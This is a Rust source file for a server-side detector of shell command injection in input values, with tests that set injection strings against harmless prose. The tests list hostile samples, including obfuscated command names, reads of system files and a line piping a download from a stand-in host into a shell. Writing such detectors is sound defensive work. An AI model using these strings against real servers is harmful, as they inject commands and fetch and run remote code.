//! Commands for the server's shell where a value belongs.

mod programs;
mod shell;

use super::super::text::behind;
use programs::{is_program, is_strong};

/// Signs behind which a shell begins a new command.
const SEPARATORS: &[&str] = &[";", "|", "&", "\n", "\r", "`", "$(", "{", "<(", ">(", "\\n"];
/// Programs that run another; some are words.
const RUNNERS: &[&str] = &[
    "time", "nohup", "strace", "ltrace", "flock", "xargs", "watch", "setsid", "nice", "timeout",
    "sudo", "doas", "busybox", "env", "ionice", "stdbuf", "exec", "command", "unshare", "chroot",
];

/// Whether a value, in small letters, would make a shell run something.
pub fn is_attack(small: &str) -> bool {
    let small = small.trim_start();
    if shell::PATTERNS.any(small) || separated(small, false) || direct(small) {
        return true;
    }
    // Disguised: the shell takes quotes and empty expansions out of a word.
    shell::plain(small).is_some_and(|plain| separated(&plain, true) || is_disguised(small, &plain))
}

fn separated(small: &str, strong: bool) -> bool {
    SEPARATORS.iter().any(|sign| after(small, sign, strong))
}

/// Whether a known program stands behind a sign that separates commands.
fn after(small: &str, sign: &str, strong: bool) -> bool {
    let mut rest = small;
    while let Some(tail) = behind(rest, sign) {
        if is_call(tail, sign, strong) {
            return true;
        }
        rest = tail;
    }
    false
}

/// The first word of a command, without its folder, and what stands behind it.
fn first(tail: &str) -> (&str, &str) {
    let name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '/' | '_' | '\\' | '-');
    let end = tail.find(|c| !name(c)).unwrap_or(tail.len());
    let (word, rest) = tail.split_at(end);
    (word.rsplit(['/', '\\']).next().unwrap_or(word), rest)
}

fn is_call(tail: &str, sign: &str, strong: bool) -> bool {
    let signs = [' ', '\t', '+', '|', '&', '"', '\'', '\\', '^', '(', ',', '$', '@', '{', '.'];
    let spaced = tail.starts_with(' ');
    let tail = tail.trim_start_matches(signs);
    let (word, rest) = first(tail);
    let runs = RUNNERS.contains(&word) && rest.starts_with(' ');
    if runs && is_strong(first(rest.trim_start()).0) {
        return true;
    }
    // `{ls,-la}` is a command; `{file}` is a place for a name.
    if sign == "{" && rest.starts_with('}') {
        return false;
    }
    let clear = || rest.trim_start().starts_with(['/', '-', '.', '$']);
    // `this & more` is prose, `this&id` is not.
    let strong = strong || spaced && sign == "&";
    let known = is_strong(word) || is_program(word) && (!strong || clear());
    known && (is_used(rest) || matches!(sign, "`" | "$(" | "<("))
}

/// Whether what stands behind a program's name makes it a call, and no word of prose.
fn is_used(rest: &str) -> bool {
    const ENDS: &[char] =
        &[';', '|', '&', '`', ')', '>', '<', '$', ',', '}', '\n', '(', '"', '\'', '#', '%', '\r'];
    let next = rest.trim_start_matches([' ', '\t', '+']);
    let call = rest.is_empty() || rest.starts_with(ENDS);
    let option = next.starts_with([
        '-', '/', '\\', '.', '$', '*', '"', '\'', '~', '%', '&', '|', ';', '<', '>', '`',
    ]);
    let argument = rest.starts_with([' ', '+'])
        && (rest.contains('/') || rest.contains('.') || next.is_empty());
    call || option || argument
}

/// Whether the value is a command line from its start: a program, and what only programs take.
fn direct(small: &str) -> bool {
    let (word, rest) = first(small.trim_start_matches(['\\', '/', '.', ' ', '"', '\'']));
    let next = rest.trim_start_matches([' ', '\t', '+']);
    if next.len() == rest.len() {
        return false;
    }
    if RUNNERS.contains(&word) {
        let mut words = next.split_whitespace().skip_while(|w| w.starts_with(['-', '/']));
        return words.next().is_some_and(|w| is_strong(first(w).0) && w.len() > 2);
    }
    let option = |w: &str| w.starts_with(['-', '/', '~', '$']) || w.contains("://");
    let mut words = next.split_whitespace();
    let clear = words.next().is_some_and(option) || next.starts_with(['<', '>', '|', '`']);
    let more = is_strong(word) && words.any(|w| option(w) || w.contains('/'));
    is_program(word) && next.len() > 1 && (clear || more)
}

/// Whether a program's name only appears once disguises are taken out of it.
fn is_disguised(small: &str, plain: &str) -> bool {
    let (word, rest) = first(plain.trim_start());
    let start = small.trim_start();
    let inside = start.starts_with(|c: char| c.is_ascii_alphabetic() || c == '\\');
    let clean = first(start).0 != word;
    inside && clean && word.len() > 2 && is_program(word) && rest.starts_with([' ', ';', '|'])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_from_prose() {
        assert!(shell::PATTERNS.is_built());
        for value in [
            ";id",
            "| whoami",
            "a&&cat /etc/hostname",
            "`uname -a`",
            "$(curl x.example)",
            "w\"g\"et http://x.example/a",
            ";c'a't /etc/hosts",
            "/b?n/ca? x",
            "ping -c 3 x",
            "for %a in (1,2) do ver",
            "if exist c:\\x del y",
            "nohup ifconfig",
            "ls${ifs}-la",
            "get-childitem env:",
            "c\\url x.example/a|sh",
            "; wh$@oami",
        ] {
            assert!(is_attack(value), "{value}");
        }
        for value in [
            "salt & pepper",
            "time travel",
            "cat food; dog food",
            "find cheap flights",
            "tom's host & guest",
            "black | white",
            "who is who",
            "set of 6; red",
            "r&b",
            "type a or b",
            "if not now when",
            "more & more",
            "at&t",
            "a;b;c",
            "top & bottom",
            "sleep well",
            "make-up & hair",
            "for her in (pink)",
            "get-together",
            "man's watch",
        ] {
            assert!(!is_attack(value), "{value}");
        }
    }
}
